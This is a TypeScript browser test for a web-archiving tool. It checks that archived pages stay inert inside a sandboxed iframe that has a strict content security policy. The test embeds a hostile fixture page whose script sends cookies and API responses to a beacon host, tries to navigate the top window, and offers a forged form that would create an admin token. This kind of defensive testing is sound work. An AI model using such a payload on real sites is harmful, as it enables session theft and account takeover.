import { describe, expect, it } from 'vitest';
import { signInAs, useUiRig } from '../helpers/ui.ts';
import { addTarget } from '../../src/targets/manage-targets.ts';
import { runCapture } from '../../src/watch/capture-target.ts';
import { getBlob } from '../../src/db/blobs.ts';

/**
 * A page that, wherever its script runs, reports the cookies it can read and what the API answers it to a
 * beacon on the fixture site, retitles the top window, and stamps the URL it ran at on its own body.
 */
function hostilePage(beacon: string): string {
  return `<!DOCTYPE html>
<html><head><title>Hostile fixture article</title></head>
<body>
<main><article>
  <h1>Hostile fixture article</h1>
  <p>This page carries a script that tries to read the session cookie and call the API of whoever displays it.</p>
  <p>If it ever runs inside the review UI, it reports to the fixture site and the test sees the hit.</p>
  <p>Without script, it offers a reader ways out: <a id="escape-top" href="${beacon}?clicked=top" target="_top">a link that replaces the whole tab</a>,
  <a id="escape-popup" href="${beacon}?clicked=popup" target="_blank">one that opens a new window</a>, and a form that would make an admin token:</p>
  <form id="forged" action="/api/tokens" method="post" target="_top"><input type="hidden" name="role" value="admin"><button type="submit">Continue</button></form>
</article></main>
<script>
  (function () {
    var report = function (what, value) { new Image().src = '${beacon}?' + what + '=' + encodeURIComponent(value); };
    document.body.setAttribute('data-ran-at', location.href);
    try { report('cookie', document.cookie); } catch (e) { report('cookie-error', String(e)); }
    try { window.top.document.title = 'pwned'; } catch (e) { report('top-error', String(e)); }
    // Only when framed: at capture time the page is the top window, and navigating it would spoil the capture.
    if (window.top !== window) { try { window.top.location.href = '${beacon}?navigated=top'; } catch (e) { report('top-nav-error', String(e)); } }
    fetch('/api/targets', { credentials: 'include' })
      .then(function (r) { return r.text(); })
      .then(function (t) { report('api', t.slice(0, 200)); }, function (e) { report('api-error', String(e)); });
  })();
</script>
</body></html>`;
}

describe('archived HTML is hostile: it never runs in the UI origin', () => {
  const apiRequests: string[] = [];
  const rig = useUiRig((s) => {
    // Every request that reaches /api/targets or /api/tokens on the UI's server: the stored page's fetch, or its form, would be one.
    s.app.addHook('onRequest', async (request) => {
      if (request.url.startsWith('/api/targets') || request.url.startsWith('/api/tokens')) apiRequests.push(`${request.method} ${request.url}`);
    });
  });

  it('stores the page with its script, shows it in a sandboxed iframe, and nothing in it runs', { timeout: 90_000 }, async () => {
    const { server, site, browser } = rig;
    site.html('/hostile', hostilePage(site.url('/beacon')));
    const target = await addTarget(server.ctx, { url: site.url('/hostile'), every: '6h' });
    const saved = await runCapture(server.ctx, target.id, 'hostile-1');
    const html = (await getBlob(server.ctx.pool, saved.snapshot.parts.html!))!.data.toString('utf8');
    expect(html).toContain('<script>');
    expect(html).toContain("fetch('/api/targets'");
    // The control: where scripts may run (the live page, at capture time), this one does.
    await expect.poll(() => site.hits('/beacon'), { timeout: 10_000 }).toBeGreaterThanOrEqual(2);
    expect(html).toContain(`data-ran-at="${site.url('/hostile')}"`);
    const hitsAtCapture = site.hits('/beacon');

    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    try {
      const page = await context.newPage();
      await signInAs(page, server.baseUrl, server.tokens.reviewer, 'reviewer');
      await page.goto(`${server.baseUrl}/snapshots/${saved.snapshot.id}`);
      const title = await page.title();
      const iframe = page.locator('iframe.archived');
      expect(await iframe.getAttribute('sandbox')).toBe('');
      const frame = page.frames().find((f) => f.url() === `${server.baseUrl}/snapshots/${saved.snapshot.id}/html`);
      // The stored page did load in the frame…
      await expect.poll(() => frame?.locator('h1').textContent()).toBe('Hostile fixture article');
      const response = await context.request.get(`${server.baseUrl}/snapshots/${saved.snapshot.id}/html`);
      expect(response.headers()['content-security-policy']).toMatch(/^sandbox;.*default-src 'none'/);
      expect(response.headers()['x-content-type-options']).toBe('nosniff');
      // …and its script did nothing: the body still says where it ran at capture time, and nothing was reported.
      await page.waitForTimeout(1_500);
      expect(await frame!.locator('body').getAttribute('data-ran-at')).toBe(site.url('/hostile'));
      expect(await page.title()).toBe(title);
      expect(site.hits('/beacon')).toBe(hitsAtCapture);
      expect(apiRequests).toEqual([]);

      // No way out by a reader's clicks either: the frame may not navigate the tab, open a window, or send a form.
      const snapshotPage = page.url();
      const tokensBefore = (await server.ctx.pool.query('select id from api_tokens')).rowCount;
      await frame!.locator('#escape-top').click();
      await frame!.locator('#escape-popup').click();
      await frame!.locator('#forged button').click();
      await page.waitForTimeout(1_500);
      expect(page.url()).toBe(snapshotPage);
      expect(await page.title()).toBe(title);
      expect(context.pages()).toHaveLength(1);
      expect(site.hits('/beacon')).toBe(hitsAtCapture);
      expect(apiRequests).toEqual([]);
      expect((await server.ctx.pool.query('select id from api_tokens')).rowCount).toBe(tokensBefore);

      // Opened on its own, outside the iframe: still sandboxed, still inert, and its document cannot see cookies.
      await page.goto(`${server.baseUrl}/snapshots/${saved.snapshot.id}/html`);
      await page.waitForTimeout(1_500);
      expect(await page.locator('body').getAttribute('data-ran-at')).toBe(site.url('/hostile'));
      await expect(page.evaluate(() => document.cookie)).rejects.toThrow(/sandboxed|SecurityError/);
      expect(site.hits('/beacon')).toBe(hitsAtCapture);
      expect(apiRequests).toEqual([]);

      // The control again, in this very browser: the same page served live does run, and the beacon sees it.
      await page.goto(site.url('/hostile'));
      await expect.poll(() => site.hits('/beacon'), { timeout: 10_000 }).toBeGreaterThan(hitsAtCapture);
      // …and its way out works where nothing stops it: the same click leaves the page.
      const hitsLive = site.hits('/beacon');
      await page.locator('#escape-top').click();
      await expect.poll(() => site.hits('/beacon'), { timeout: 10_000 }).toBeGreaterThan(hitsLive);
    } finally {
      await context.close();
    }
  });
});
